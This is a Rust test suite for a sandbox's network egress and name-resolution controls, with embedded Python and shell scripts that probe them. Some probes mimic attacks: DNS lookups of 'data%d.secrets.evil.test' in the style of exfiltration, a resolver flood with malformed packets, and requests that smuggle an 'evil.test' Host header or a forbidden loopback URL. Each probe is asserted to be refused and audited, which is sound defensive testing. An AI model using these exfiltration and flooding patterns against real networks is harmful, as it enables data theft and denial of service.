//! The name door, through the real program: programs that know no proxy reach what the rules allow, other names do not
//! exist, and code keeps the ports of its own servers.

use cove_testkit::TestUser;
use cove_testkit::program::FinishedProgram;
use serde_json::Value;

use crate::cove;
use crate::egress::RuledServers;

/// The lines of the audit, as door, host, method and reason.
fn audit(network: &RuledServers, who: TestUser) -> Vec<[String; 4]> {
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let facts = |line: &Value| ["door", "host", "method", "reason"].map(|key| text(&line[key]));
    network.audit(who).iter().map(facts).collect()
}

fn lines(finished: &FinishedProgram) -> Vec<&str> {
    finished.stdout.lines().collect()
}

/// Python's `http.client` and sockets ignore the variables that name a proxy.
const PYTHON: &str = r#"
import http.client, socket, ssl
def get(connection):
    connection.request("GET", "/a?secret=1")
    return connection.getresponse().read().decode()
print(get(http.client.HTTPConnection("plain.test", PLAIN)))
print(get(http.client.HTTPSConnection("secure.test", SECURE, context=ssl._create_unverified_context())))
family, kind, protocol, _, address = socket.getaddrinfo("BYTES.test", PLAIN, type=socket.SOCK_STREAM)[0]
with socket.socket(family, kind, protocol) as stream:
    stream.connect(address)
    stream.sendall(b"any bytes\r\n\r\n")
    print(stream.makefile().read().split("\n")[-1])
print(address[0].startswith("127.64."))
"#;

const NODE: &str = r#"
process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0"
console.log("NODE_USE_ENV_PROXY" in process.env)
console.log(await (await fetch("http://plain.test:PLAIN/")).text())
console.log(await (await fetch("https://secure.test:SECURE/")).text())
const https = require("https")
await new Promise((done, failed) => https.get("https://secure.test:SECURE/", answer => {
    answer.on("data", bytes => console.log(String(bytes)))
    answer.on("end", done)
}).on("error", failed))
"#;

#[test]
fn programs_that_know_no_proxy_reach_what_the_rules_allow() {
    for who in TestUser::all("programs_that_know_no_proxy_reach_what_the_rules_allow") {
        let network = RuledServers::start();
        let finished = network.run(who, &[], PYTHON);
        assert_eq!(finished.code, Some(0), "{finished:#?}");
        assert_eq!(lines(&finished), ["plain answer", "secure answer", "plain answer", "True"], "{finished:#?}");
        let finished = network.run(who, &["-l", "node"], NODE);
        assert_eq!(finished.code, Some(0), "{finished:#?}");
        let answers = ["false", "plain answer", "secure answer", "secure answer"];
        assert!(answers.iter().all(|answer| lines(&finished).contains(answer)), "{finished:#?}");
        let curl = "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY all_proxy\n\
                    curl -sS http://plain.test:PLAIN/ && curl -sSk https://secure.test:SECURE/ && \
                    curl -sS --http0.9 http://bytes.test:PLAIN/";
        let answer = network.run(who, &["-l", "bash"], curl).expect_success().to_owned();
        assert_eq!(answer, "plain answersecure answerplain answer");
        assert_eq!((network.plain.count(), network.secure.count(), network.forbidden.count()), (5, 4, 0));
        let audit = audit(&network, who);
        assert_eq!(audit.len(), 9, "{audit:#?}");
        assert!(audit.iter().all(|[door, _, _, reason]| door == "name" && reason.is_empty()), "{audit:#?}");
        assert!(audit.iter().any(|[_, host, method, _]| host == "plain.test" && method == "GET"));
        assert!(audit.iter().any(|[_, host, method, _]| host == "bytes.test" && method == "CONNECT"));
        assert!(!network.audit(who).iter().any(|line| line.to_string().contains("secret=1")), "no query is recorded");
    }
}

/// Programs that ignore the variables, where this machine has them. The server does not speak their protocols, so that
/// they connect and then give up.
const OTHERS: &str = r#"
command -v psql > /dev/null && PGCONNECT_TIMEOUT=2 psql -h bytes.test -p PLAIN -U x x 2>&1 | grep -c 'bytes.test" (127.64' || echo 1
command -v ssh > /dev/null && ssh -v -o ConnectTimeout=2 -p PLAIN x@bytes.test 2>&1 | grep -c "Connection established" || echo 1
"#;

#[test]
fn psql_and_ssh_come_through_the_name_door() {
    let who = TestUser::all("psql_and_ssh_come_through_the_name_door")[0];
    let network = RuledServers::start();
    let finished = network.run(who, &["-l", "bash"], OTHERS);
    assert_eq!(lines(&finished), ["1", "1"], "{finished:#?}");
}

/// What refused connections and names look like to code.
const REFUSED: &str = r#"
import http.client, socket
def attempt(act):
    try:
        return act()
    except OSError as error:
        return type(error).__name__ + " " + str(error.errno)
def send(host, port, bytes):
    def act():
        with socket.create_connection((host, port), timeout=20) as stream:
            stream.sendall(bytes)
            return stream.recv(100)
    return attempt(act)
print(attempt(lambda: socket.getaddrinfo("evil.test", 443)))
print(attempt(lambda: socket.getaddrinfo("sub.secure.test", 443)))
print(attempt(lambda: socket.getaddrinfo("secure.test.evil.test", 443)))
print(attempt(lambda: socket.getaddrinfo("secure.test", 443, family=socket.AF_INET6)))
print(send("secure.test", 443, b"x"))
print(send("secure.test", SECURE, b"SSH-2.0-evil\r\n"))
print(send("plain.test", PLAIN, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
print(send("plain.test", PLAIN, b"GET http://127.0.0.1:FORBIDDEN/ HTTP/1.1\r\nHost: plain.test\r\n\r\n"))
"#;

#[test]
fn other_names_do_not_exist_and_refused_connections_are_reset() {
    for who in TestUser::all("other_names_do_not_exist_and_refused_connections_are_reset") {
        let network = RuledServers::start();
        let finished = network.run(who, &[], REFUSED);
        assert_eq!(finished.code, Some(0), "{finished:#?}");
        let unknown = "gaierror -2";
        let (no_address, reset) = ("gaierror -5", "ConnectionResetError 104");
        let expected = [unknown, unknown, unknown, no_address, reset, reset, reset, reset];
        assert_eq!(lines(&finished), expected, "{finished:#?}");
        assert_eq!((network.plain.count(), network.secure.count(), network.forbidden.count()), (0, 1, 0));
        let note = "network: refused evil.test (no egress rule allows this host; reachable: plain.test, ";
        assert!(finished.stderr.contains(note), "{finished:#?}");
        assert!(finished.stderr.contains("the operator can add `--allow-net evil.test`"), "{finished:#?}");
        let mut reasons: Vec<String> = audit(&network, who).into_iter().map(|[_, _, _, reason]| reason).collect();
        reasons.sort();
        let unknown = "host-not-allowed";
        let malformed = "malformed-request";
        assert_eq!(reasons, [unknown, unknown, unknown, malformed, malformed, "not-tls", "port-not-allowed"]);
    }
}

/// Asks for names by hand, as nothing but an attack does.
const FLOOD: &str = r#"
import socket, struct
def question(name, kind=1):
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
    return struct.pack(">6H", 7, 256, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)
door = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
door.settimeout(20)
door.connect(("127.0.0.1", 53))
def ask(bytes):
    door.send(bytes)
    return door.recv(600)[3] & 15
codes = {ask(question(b"data%d.secrets.evil.test" % number, kind)) for number in range(1500) for kind in (1, 16)}
print(codes)
print(ask(question(b".".join([b"a" * 49] * 6))), ask(question(b"plain.test") + b"x"), ask(b"\0" * 12))
for bad in [b"", b"x", b"\xff" * 600, question(b"plain.test")[:11]]:
    door.send(bad)
crowd = [socket.create_connection(("127.0.0.1", 53)) for _ in range(100)]
for client in crowd:
    try:
        client.sendall(b"\xff\xff" + b"x" * 1000)
    except OSError:
        pass
client = socket.create_connection(("127.0.0.1", 53))
asked = question(b"plain.test")
client.sendall(struct.pack(">H", len(asked)) + asked)
print(client.recv(600)[-4] == 127)
import http.client
connection = http.client.HTTPConnection("plain.test", PLAIN)
connection.request("GET", "/")
print(connection.getresponse().read().decode())
"#;

#[test]
fn a_flood_of_names_is_bounded_and_counted() {
    let who = TestUser::all("a_flood_of_names_is_bounded_and_counted")[0];
    let network = RuledServers::start();
    let finished = network.run(who, &["--timeout", "100s"], FLOOD);
    assert_eq!(lines(&finished), ["{3}", "1 1 1", "True", "plain answer"], "{finished:#?}");
    let notes = finished.stderr.lines().filter(|line| line.starts_with("network: ")).count();
    assert_eq!(notes, 6, "{finished:#?}");
    // 64 names are reported, and each further question counts.
    assert!(finished.stderr.contains("network: 2931 further requests were refused"), "{finished:#?}");
    assert_eq!(audit(&network, who).iter().filter(|[_, _, method, _]| method == "LOOKUP").count(), 64);
}

/// Servers of the code's own beside the door.
const OWN_SERVERS: &str = r#"
import http.client, socket
def serve(host, port):
    listener = socket.socket()
    try:
        listener.bind((host, port))
        listener.listen()
        return listener
    except OSError as error:
        return error.strerror
def lookup():
    try:
        return socket.getaddrinfo("plain.test", PLAIN)[0][4][0]
    except OSError as error:
        return error.errno
everywhere = serve("0.0.0.0", PLAIN)
print(lookup())
everywhere.close()
print(lookup())
own = [serve("127.0.0.1", port) for port in (80, 443, PLAIN, SECURE)]
for listener in own:
    client = socket.create_connection(listener.getsockname())
    print(listener.accept()[1] == client.getsockname())
print(serve("127.0.0.1", 53))
print(serve("0.0.0.0", 53))
connection = http.client.HTTPConnection("plain.test", PLAIN)
connection.request("GET", "/")
print(connection.getresponse().read().decode())
"#;

#[test]
fn code_keeps_the_ports_of_its_own_servers() {
    for who in TestUser::all("code_keeps_the_ports_of_its_own_servers") {
        let network = RuledServers::start();
        let finished = network.run(who, &[], OWN_SERVERS);
        let taken = "Address already in use";
        let expected = ["-5", "127.64.0.1", "True", "True", "True", "True", taken, taken, "plain answer"];
        assert_eq!(lines(&finished), expected, "{finished:#?}");
        assert!(
            finished.stderr.contains("network: refused plain.test (the sandbox has no free address"),
            "{finished:#?}"
        );
    }
}

#[test]
fn without_rules_nothing_answers_names() {
    for who in TestUser::all("without_rules_nothing_answers_names") {
        let code = "import socket\nprint(repr(open('/etc/resolv.conf').read()), open('/etc/nsswitch.conf').read().split()[-1])\n\
                    print(socket.socket().connect_ex(('127.0.0.1', 53)))\n\
                    try:\n    socket.socket().bind(('127.0.0.1', 53))\nexcept PermissionError:\n    print('closed')";
        let expected = "'' files\n111\nclosed\n";
        assert_eq!(cove().run(who, &["run", "--backend", "jail", "-c", code]).expect_success(), expected, "{who:?}");
        let network = RuledServers::start();
        assert_eq!(network.run(who, &["--no-net"], code).expect_success(), expected);
        let explain = |args: &[&str]| {
            let output = network.command(who, &["explain", "--backend", "jail"]).args(args).output().unwrap();
            FinishedProgram::from_output(output).stdout
        };
        assert!(explain(&[]).contains("where the runner answers names"), "{}", explain(&[]));
        assert!(!explain(&["--no-net"]).contains("answers names"));
    }
}
